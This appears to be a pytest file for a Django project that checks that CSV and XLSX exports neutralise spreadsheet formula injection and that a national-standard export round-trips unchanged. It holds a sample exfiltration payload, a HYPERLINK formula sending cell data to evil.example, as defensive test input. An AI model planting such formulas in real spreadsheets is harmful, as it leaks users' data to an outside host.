"""CSV and XLSX exports neutralise cells a spreadsheet would run as formulas (OWASP), and the
national standard still round-trips: export → import → export gives the same file."""

import io

import pytest
from openpyxl import load_workbook

from actors.exporters import write_csv as write_places_csv
from actors.importers.places import import_places
from actors.models import Place, Structure
from equipment import gaps
from tests.security.test_links import FIXTURE

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'


def gap_row(**values):
    return {key: values.get(key, "") for key, _ in gaps.EXPORT_COLUMNS}


def test_the_gap_list_neutralises_formulas_in_csv_and_xlsx():
    data = [gap_row(uai="0280001A", name=FORMULA, answer__needs="@SUM(1+1)", ips=-12.5)]

    text = gaps.write_csv(data).decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in text and ';"=HYPERLINK' not in text
    assert ";'@SUM(1+1)" in text
    assert ";-12,5;" in text  # a number stays a number

    sheet = load_workbook(io.BytesIO(gaps.write_xlsx(data, "Manques"))).active
    row = list(sheet[4])
    assert row[1].value == "'" + FORMULA
    assert row[1].data_type == "s"  # text, not a formula
    assert row[17].value == "'@SUM(1+1)"
    assert row[7].value == -12.5


def test_the_national_standard_round_trips_with_neutralised_cells(territory_28, tmp_path):
    import_places(FIXTURE)
    place = Place.objects.get(sources__external_id="mednum-001")
    Place.objects.filter(pk=place.pk).update(name=FORMULA, summary="-- à lire --")

    first = io.StringIO()
    write_places_csv(first)
    assert "'=HYPERLINK(" in first.getvalue()
    assert ",'-- à lire --," in first.getvalue()
    assert ",+33237238100," in first.getvalue()  # phone numbers unchanged

    Place.objects.all().delete()
    Structure.objects.all().delete()
    exported = tmp_path / "lieux.csv"
    exported.write_text(first.getvalue(), encoding="utf-8")
    import_places(exported)
    assert Place.objects.get(sources__external_id="mednum-001").name == FORMULA
    second = io.StringIO()
    write_places_csv(second)
    assert second.getvalue() == first.getvalue()
